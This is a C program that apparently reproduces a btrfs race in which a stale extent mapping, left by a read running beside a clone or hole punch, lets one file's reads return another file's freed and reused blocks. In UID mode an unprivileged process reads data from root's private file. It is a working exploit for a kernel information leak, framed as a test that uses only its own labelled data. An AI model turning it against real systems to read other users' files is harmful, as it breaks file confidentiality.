/*
 * Can the mapping a read beside a clone leaves cached outlive the blocks it points to,
 * and then show a file another file's data?
 *
 *   btrfs-clone-stale-extent FILE ROUNDS [LEAKS [clone|punch [UID]]]
 *
 * FILE.src holds four pages, FILE.other is another file. Each round empties FILE and gives
 * its pages 0-1 one new two-page extent, E, that FILE alone references, with neither
 * page nor map of it cached (see fresh_extent), then at once: the main thread clones
 * FILE.src's page 3 onto FILE's page 0 while a second thread, started with the clone by
 * a spin, preads FILE's page 1. Then an O_DIRECT read of page 0 (it goes through the
 * cached mapping but caches no page) tells whether the round left a stale mapping: it
 * must read FILE.src's page 3; a round that reads the round's own page 0 is stale.
 *
 * In the first LEAKS stale rounds (default 3), the program then takes every reference to
 * E away: page 1 is written again and written back (copy-on-write: a new extent), and
 * syncfs commits the transaction, which frees E. It writes FILE.other block by block
 * (sparse, so that each block is an allocation of its own) until FIEMAP shows one of its
 * blocks on E's first block, and reads FILE's page 0 again, with O_DIRECT and through
 * the page cache. A read that returns FILE.other's block is another file's data read
 * through FILE: the leak.
 *
 * With `punch`, the round punches a hole over page 0 instead of cloning onto it, and page 0
 * must then read zeroes.
 *
 * With UID (run as root), two users: FILE, FILE.src and FILE.new are made in a folder
 * FILE.user that UID owns, by a process that has dropped every privilege to UID, and
 * FILE.other is root's, mode 0600 in a folder FILE.private of mode 0700, written by a
 * second process that stays root and that the first asks, through a pipe, to write it
 * until E's block is reused. The first process cannot open FILE.other (it says so); a read
 * of its own FILE that returns FILE.other's block is root's data read by UID.
 *
 * Every page is filled with a label ("FILE r12 p0", "SRC p3", "OTHER b57") so that the
 * output says whose data a read returned. Exit status: 0 when no read returned another
 * file's data, 1 when one did, 2 on a usage or setup error.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fiemap.h>
#include <linux/fs.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <grp.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

#define PG 4096
#define LABEL 16
#define OTHER_BLOCKS 16384 /* FILE.other is written up to 64 MiB of blocks */

static int file, file_direct, src, other;
static int to_owner = -1, from_owner = -1; /* with UID: the pipes to FILE.other's writer */
static atomic_int ready, go;
static char *page; /* aligned, for O_DIRECT */

static __attribute__((noreturn)) void die(const char *what)
{
	perror(what);
	exit(2);
}

static void fill(char *buf, const char *fmt, int a, int b)
{
	char label[LABEL + 1];

	snprintf(label, sizeof label, fmt, a, b);
	memset(label + strlen(label), ' ', LABEL - strlen(label));
	for (int i = 0; i < PG; i += LABEL)
		memcpy(buf + i, label, LABEL);
}

/* The label a page read holds, or "(mixed)" when its parts differ. */
static const char *label_of(const char *buf)
{
	static char label[LABEL + 1];

	for (int i = LABEL; i < PG; i += LABEL)
		if (memcmp(buf, buf + i, LABEL))
			return "(mixed)";
	memcpy(label, buf, LABEL);
	for (int i = LABEL - 1; i >= 0 && label[i] == ' '; i--)
		label[i] = 0;
	return label;
}

static void put(int fd, long pageno, const char *fmt, int a, int b)
{
	fill(page, fmt, a, b);
	if (pwrite(fd, page, PG, pageno * PG) != PG)
		die("pwrite");
}

/* The disk address of the block at `pageno` of `fd`, and the length of its extent. */
static uint64_t physical(int fd, long pageno, uint64_t *extent_length)
{
	struct {
		struct fiemap map;
		struct fiemap_extent extent;
	} fm = { .map = { .fm_start = (uint64_t)pageno * PG, .fm_length = 2 * PG,
			  .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1 } };
	struct fiemap_extent *e = &fm.map.fm_extents[0];

	if (ioctl(fd, FS_IOC_FIEMAP, &fm.map))
		die("FS_IOC_FIEMAP");
	if (fm.map.fm_mapped_extents != 1)
		return 0;
	if (extent_length)
		*extent_length = e->fe_length - (pageno * PG - e->fe_logical);
	return e->fe_physical + (pageno * PG - e->fe_logical);
}

/* Page 0 read with O_DIRECT (through the cached mapping, caching no page). */
static const char *read_direct(void)
{
	ssize_t n = pread(file_direct, page, PG, 0);

	if (n == PG)
		return label_of(page);
	return n < 0 ? strerror(errno) : "(short read)";
}

static void *beside(void *unused)
{
	char buf[PG];

	(void)unused;
	atomic_store(&ready, 1);
	while (!atomic_load(&go))
		;
	if (pread(file, buf, PG, PG) != PG)
		perror("pread beside");
	return NULL;
}

/*
 * FILE's pages 0-1 as one new extent that FILE alone references, with no map of it
 * cached: written to FILE.new and cloned from there (a clone drops the destination's
 * cached maps; a write would leave its map cached, and 6.1 keeps a small file's maps
 * when its pages go), then FILE.new is removed.
 */
static int fresh_extent(int round, const char *path)
{
	struct file_clone_range both = { .src_length = 2 * PG };
	char new_path[8192];
	int ret;

	snprintf(new_path, sizeof new_path, "%s.new", path);
	both.src_fd = open(new_path, O_RDWR | O_CREAT | O_TRUNC, 0644);
	if (both.src_fd < 0)
		return -1;
	put(both.src_fd, 0, "FILE r%d p%d", round, 0);
	put(both.src_fd, 1, "FILE r%d p%d", round, 1);
	ret = fsync(both.src_fd) || ioctl(file, FICLONERANGE, &both);
	close(both.src_fd);
	return ret || unlink(new_path);
}

/*
 * Write FILE.other block by block until one lands on disk byte `e_block`: that block's
 * number, or -1; with `e_block` 0, empty FILE.other instead. With UID this runs in the
 * process that owns FILE.other (owner_loop), asked through the pipes.
 */
static int other_onto(uint64_t e_block)
{
	int found = -1;

	if (to_owner >= 0) {
		if (write(to_owner, &e_block, sizeof e_block) != sizeof e_block ||
		    read(from_owner, &found, sizeof found) != sizeof found)
			die("FILE.other's writer");
		return found;
	}
	if (!e_block) {
		if (ftruncate(other, 0) || syncfs(other))
			die("ftruncate other");
		return 0;
	}
	for (int b = 0; b < OTHER_BLOCKS && found < 0; b++) {
		put(other, 2L * b, "OTHER b%d", b, 0);
		if (b % 64 == 63) {
			if (fsync(other))
				die("fsync other");
			for (int k = b - 63; k <= b && found < 0; k++)
				if (physical(other, 2L * k, NULL) == e_block)
					found = k;
		}
	}
	return found;
}

/* With UID: the process that stays root and writes FILE.other when asked. */
static void owner_loop(int cmd, int reply)
{
	uint64_t e_block;

	while (read(cmd, &e_block, sizeof e_block) == sizeof e_block) {
		int found = other_onto(e_block);

		if (write(reply, &found, sizeof found) != sizeof found)
			die("reply");
	}
	exit(0);
}

/*
 * With UID: FILE.other root's in a folder only root may enter, written by a child that
 * stays root; this process becomes UID for good and works in FILE.user. Returns the
 * path of the user's FILE.
 */
static const char *two_users(const char *path, uid_t uid)
{
	static char user_file[4096 + 16];
	char dir[4096], other_path[4096 + 16];
	int cmd[2], reply[2];

	snprintf(dir, sizeof dir, "%s.private", path);
	snprintf(other_path, sizeof other_path, "%s/other", dir);
	if ((mkdir(dir, 0700) && errno != EEXIST) || chmod(dir, 0700))
		die("mkdir FILE.private");
	other = open(other_path, O_RDWR | O_CREAT | O_TRUNC, 0600);
	snprintf(dir, sizeof dir, "%s.user", path);
	if ((mkdir(dir, 0755) && errno != EEXIST) || chown(dir, uid, uid) || other < 0)
		die("FILE.user, FILE.other");
	if (pipe(cmd) || pipe(reply))
		die("pipe");
	fflush(stdout);
	switch (fork()) {
	case -1:
		die("fork");
	case 0:
		close(cmd[1]);
		close(reply[0]);
		owner_loop(cmd[0], reply[1]);
	}
	close(cmd[0]);
	close(reply[1]);
	close(other);
	other = -1; /* the child's alone */
	to_owner = cmd[1];
	from_owner = reply[0];
	if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
		die("dropping to UID");
	if (open(other_path, O_RDONLY) >= 0 || errno != EACCES)
		die("uid UID could open FILE.other");
	printf("uid %d, every privilege dropped; open(\"%s\"): %s\n", (int)uid, other_path,
	       strerror(EACCES));
	snprintf(user_file, sizeof user_file, "%s/file", dir);
	return user_file;
}

/* Take every reference to the round's extent away, reuse its blocks, read page 0. */
static int leak(int round, uint64_t e_block)
{
	char buf[PG];
	int found = -1, leaked = 0;

	put(file, 1, "NEW r%d p1", round, 0);
	if (fsync(file) || syncfs(file) || syncfs(file))
		die("fsync, syncfs");
	printf("  page 1 rewritten and the transaction committed (E freed); page 0 read "
	       "directly: %s\n", read_direct());

	found = other_onto(e_block);
	if (found < 0) {
		printf("  FILE.other's %d blocks did not reuse E's first block\n", OTHER_BLOCKS);
	} else {
		const char *direct = read_direct(), *buffered;

		printf("  FILE.other's block %d is now on E's first block (disk byte %llu)\n",
		       found, (unsigned long long)e_block);
		leaked |= strncmp(direct, "OTHER", 5) == 0;
		printf("  FILE's page 0 read directly: %s\n", direct);
		if (pread(file, buf, PG, 0) != PG)
			die("pread page 0");
		buffered = label_of(buf);
		leaked |= strncmp(buffered, "OTHER", 5) == 0;
		printf("  FILE's page 0 read through the page cache: %s\n", buffered);
		printf("  FILE's page 0 is on disk byte %llu (FIEMAP: FILE.src's page 3 is "
		       "on %llu)\n", (unsigned long long)physical(file, 0, NULL),
		       (unsigned long long)physical(src, 3, NULL));
	}
	other_onto(0); /* the next round starts with FILE.other empty */
	return leaked;
}

int main(int argc, char **argv)
{
	char path[8192];
	const char *name;
	int rounds, leaks = 3, punch = 0, stale = 0, tries = 0, leaked = 0, split = 0, uid = 0;

	if (argc < 3 || argc > 6 || (rounds = atoi(argv[2])) <= 0 ||
	    (argc >= 4 && (leaks = atoi(argv[3])) < 0) ||
	    (argc >= 5 && !(punch = !strcmp(argv[4], "punch")) && strcmp(argv[4], "clone")) ||
	    (argc == 6 && ((uid = atoi(argv[5])) <= 0 || geteuid()))) {
		fprintf(stderr, "usage: %s FILE ROUNDS [LEAKS [clone|punch [UID]]] (UID: as "
			"root)\n", argv[0]);
		return 2;
	}
	if (posix_memalign((void **)&page, PG, PG))
		die("posix_memalign");
	name = uid ? two_users(argv[1], uid) : argv[1];
	file = open(name, O_RDWR | O_CREAT | O_TRUNC, 0644);
	file_direct = open(name, O_RDONLY | O_DIRECT);
	snprintf(path, sizeof path, "%s.src", name);
	src = open(path, O_RDWR | O_CREAT | O_TRUNC, 0644);
	if (!uid) {
		snprintf(path, sizeof path, "%s.other", name);
		other = open(path, O_RDWR | O_CREAT | O_TRUNC, 0644);
	}
	if (file < 0 || file_direct < 0 || src < 0 || (!uid && other < 0))
		die("open");
	for (int p = 0; p < 4; p++)
		put(src, p, "SRC p%d", p, 0);
	if (fsync(src))
		die("fsync src");

	for (int r = 0; r < rounds; r++) {
		struct file_clone_range onto_0 = { .src_fd = src, .src_offset = 3 * PG,
						   .src_length = PG, .dest_offset = 0 };
		uint64_t e_block, e_length = 0;
		const char *got;
		char want[32];
		pthread_t thread;

		if (ftruncate(file, 0) || fresh_extent(r, name))
			die("the round's extent");
		e_block = physical(file, 0, &e_length);
		if (!e_block || e_length < 2 * PG) {
			split++; /* not one two-page extent: no window this round */
			continue;
		}

		atomic_store(&ready, 0);
		atomic_store(&go, 0);
		if (pthread_create(&thread, NULL, beside, NULL))
			die("pthread_create");
		while (!atomic_load(&ready))
			;
		atomic_store(&go, 1);
		if (punch ? fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, PG)
			  : ioctl(file, FICLONERANGE, &onto_0))
			die(punch ? "punch" : "FICLONERANGE");
		pthread_join(thread, NULL);

		got = read_direct();
		if (!strcmp(got, punch ? "" : "SRC p3"))
			continue;
		snprintf(want, sizeof want, "FILE r%d p0", r);
		if (strcmp(got, want)) {
			printf("round %d: page 0 read directly: %s (neither the clone's data "
			       "nor the replaced)\n", r, got);
			continue;
		}
		stale++;
		printf("round %d: after the clone page 0 read directly: %s (stale; E on disk "
		       "byte %llu)\n", r, got, (unsigned long long)e_block);
		if (tries < leaks) {
			tries++;
			leaked |= leak(r, e_block);
		}
	}
	printf("%d rounds: %d stale, %d not one extent; %d stale rounds taken on: %s\n",
	       rounds, stale, split, tries,
	       leaked ? "another file's data read through FILE" : "no other file's data read");
	return leaked;
}
